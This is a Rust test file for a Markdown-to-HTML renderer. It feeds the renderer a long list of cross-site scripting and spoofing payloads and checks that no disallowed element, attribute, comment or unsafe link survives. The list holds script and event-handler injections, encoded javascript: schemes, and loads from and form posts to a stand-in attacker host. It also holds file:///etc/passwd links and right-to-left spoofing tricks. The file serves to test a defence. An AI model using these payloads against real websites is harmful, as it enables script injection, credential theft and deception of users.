//! What people send who want something to run, to load or to mislead. The HTML that comes of it is
//! read by another parser, which counts what is there.

use proptest::prelude::*;
use scraper::{Html, Node};

use super::html;

const HOSTILE: &[&str] = &[
    // scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "**bold**<script>alert(1)//",
    "<<script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    // handlers
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<b onclick=alert(1)>x</b>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=\"#\" onmouseover=\"alert(1)\">x</a>",
    "[a](http://x.example \"onmouseover=alert(1)\")",
    "[a](http://x.example/\" onmouseover=\"alert(1))",
    "[a](<http://x.example/\" onmouseover=\"alert(1)>)",
    // foreign content
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,x\"/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    // styles
    "<style>*{display:none}</style>",
    "<p style=\"background:url(http://evil.example/x)\">x</p>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    // documents
    "<meta http-equiv=refresh content=\"0;url=http://evil.example\">",
    "<base href=\"http://evil.example/\">",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,x\"></object>",
    "<embed src=\"http://evil.example/x.swf\">",
    "<applet code=x></applet>",
    "<frameset><frame src=http://evil.example></frameset>",
    "<portal src=http://evil.example></portal>",
    "<template><img src=x onerror=alert(1)></template>",
    // forms
    "<form action=\"http://evil.example\"><input name=password></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<isindex action=\"javascript:alert(1)\">",
    // what loads
    "![x](http://evil.example/a.png)",
    "![x][y]\n\n[y]: http://evil.example/a.png",
    "<img srcset=\"http://evil.example/a.png 2x\">",
    "<picture><source srcset=http://evil.example/a></picture>",
    "<video poster=http://evil.example/a src=http://evil.example/b></video>",
    "<audio src=http://evil.example/a autoplay>",
    "<table background=http://evil.example/a><tr><td>x</td></tr></table>",
    "<input type=image src=http://evil.example/a>",
    "[![x](http://evil.example/a.png)](http://evil.example)",
    // schemes
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](javascript://example.com/%0Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example\\share)",
    "[x](blob:https://example.com/1)",
    "[x](tauri://localhost/index.html)",
    "[x](ipc://localhost/call)",
    "[x](mailto:a@b.pl?attach=/etc/passwd)",
    "[x](https://bank.example@evil.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)> \"t\"\n\n[x][]",
    // broken markup
    "<a href=\"http://x.example\"><a href=\"javascript:alert(1)\">x</a></a>",
    "[a [b](javascript:alert(1)) c](http://x.example)",
    "<!-- --><script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x xmlns=\"http://www.w3.org/1999/xhtml\"><script>1</script></x>",
    "<!DOCTYPE html><html><head><title>x</title>",
    "<p><b><i><u>never closed",
    "</p></div></body></html><script>alert(1)</script>",
    "<plaintext>x",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "```html\n<script>alert(1)</script>\n```",
    "``` \"><script>alert(1)</script>\ncode\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "[x](java\0script:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    // what misleads
    "https://example.com/\u{202e}gpj.exe",
    "[x](https://example.com/\u{202e}gpj.exe)",
    "[x](https://exam\u{200b}ple.com)",
    "jan@example.com\u{202e}moc.live",
    "www.example.com\"onmouseover=alert(1)",
    "http://x.example/<script>alert(1)</script>",
    "http://x.example/'onmouseover='alert(1)",
    "501 502 503\"onclick=\"alert(1)",
];

const ELEMENTS: &[&str] = &[
    "p",
    "br",
    "hr",
    "em",
    "strong",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "a",
];

/// Everything in `made` that should not be there.
fn harm(made: &str) -> Vec<String> {
    let page = Html::parse_fragment(made);
    let mut found = Vec::new();
    for node in page.tree.nodes() {
        match node.value() {
            Node::Element(element) => {
                // The parser puts its own two around a piece of a page.
                let is_frame = matches!(element.name(), "html" | "body");
                if !is_frame && !ELEMENTS.contains(&element.name()) {
                    found.push(format!("<{}>", element.name()));
                }
                for (name, value) in element.attrs() {
                    let is_known = match (element.name(), name) {
                        ("a", "href") => is_harmless(value),
                        ("a", "title" | "rel") => true,
                        ("ol", "start") => value.parse::<u64>().is_ok(),
                        _ => false,
                    };
                    if !is_known {
                        found.push(format!("{name}={value:?}"));
                    }
                }
            },
            Node::Comment(_) | Node::ProcessingInstruction(_) | Node::Doctype(_) => {
                found.push(format!("{:?}", node.value()));
            },
            Node::Text(_) | Node::Document | Node::Fragment => {},
        }
    }
    found
}

/// An address of a page, a mailbox or a telephone, said once more in other words than the program's.
fn is_harmless(address: &str) -> bool {
    let hides = |letter: char| letter.is_control() || matches!(letter, '\u{200b}'..='\u{202e}');
    let starts = ["http://", "https://", "mailto:", "tel:"];
    let lower = address.to_lowercase();
    starts.iter().any(|start| lower.starts_with(start))
        && !address.contains(hides)
        && !lower.contains("attach")
        && !lower.contains("bank.example@")
}

#[test]
fn nothing_runs_loads_or_misleads() {
    assert!(HOSTILE.len() >= 60, "{}", HOSTILE.len());
    for hostile in HOSTILE {
        // By itself, in a list, and behind words.
        let lines = hostile.replace('\n', "\n  ");
        for text in [(*hostile).to_owned(), format!("- {lines}"), format!("Słowa {hostile} słowa")]
        {
            let made = html(&text);
            let found = harm(&made);
            assert!(found.is_empty(), "{text:?} became {made:?}: {found:?}");
        }
    }
}

#[test]
fn the_check_finds_harm() {
    for bad in [
        "<script>1</script>",
        "<p onclick=x>",
        "<a href=\"javascript:1\">x</a>",
        "<img src=x>",
        "<!-- x -->",
        "<p style=x>",
    ] {
        assert!(!harm(bad).is_empty(), "{bad}");
    }
}

#[test]
fn what_was_written_is_still_to_be_read() {
    for (text, shown) in [
        ("<b>tak</b>", "<b>tak</b>"),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ("a < b && b > c", "a < b && b > c"),
        ("![opis](http://evil.example/a.png)", "opis"),
    ] {
        let page = Html::parse_fragment(&html(text));
        let read: String = page.root_element().text().collect();
        assert_eq!(read.trim(), shown);
    }
}

proptest! {
    #[test]
    fn no_text_does_harm(text in "\\PC{0,80}") {
        let found = harm(&html(&text));
        prop_assert!(found.is_empty(), "{text:?}: {found:?}");
    }

    #[test]
    fn no_likely_text_does_harm(
        text in "([<>\"'`=/\\[\\]()!*_&;: \n]|script|svg|img|src|onerror|javascript:|https://|a@b.pl|&#106;|style|\\+48 501 502 503){0,14}",
    ) {
        let found = harm(&html(&text));
        prop_assert!(found.is_empty(), "{text:?}: {found:?}");
    }
}
